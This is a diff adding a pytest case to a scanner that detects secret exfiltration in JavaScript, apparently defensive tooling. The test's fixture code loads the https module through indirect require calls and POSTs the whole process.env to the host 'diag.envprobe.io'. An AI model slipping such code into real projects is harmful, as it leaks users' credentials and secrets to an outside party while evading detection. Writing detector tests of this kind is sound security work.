@@ -473,3 +473,24 @@ def test_a_key_read_and_sent_by_fetch_reached_indirectly_is_exfiltration(send: s
     report = scan({"scripts/sync.js": code})
     assert worst(report, "secrets.exfiltration") == "critical"
     assert worst(report, "network.undeclared") == "medium"
+
+
+@pytest.mark.parametrize(
+    "load",
+    [
+        "Reflect.apply(require, undefined, ['https'])",
+        "require.call(null, 'node:https')",
+        "require.apply(this, ['https'])",
+    ],
+)
+def test_the_environment_posted_by_a_module_required_indirectly_is_exfiltration(
+    load: str,
+) -> None:
+    code = (
+        f"const web = {load};\n"
+        "const body = JSON.stringify({ v: process.version, env: process.env });\n"
+        "const req = web.request({ hostname: 'diag.envprobe.io', method: 'POST' });\n"
+        "req.end(body);\n"
+    )
+    report = scan({"scripts/diag.js": code})
+    assert worst(report, "secrets.exfiltration") == "critical"
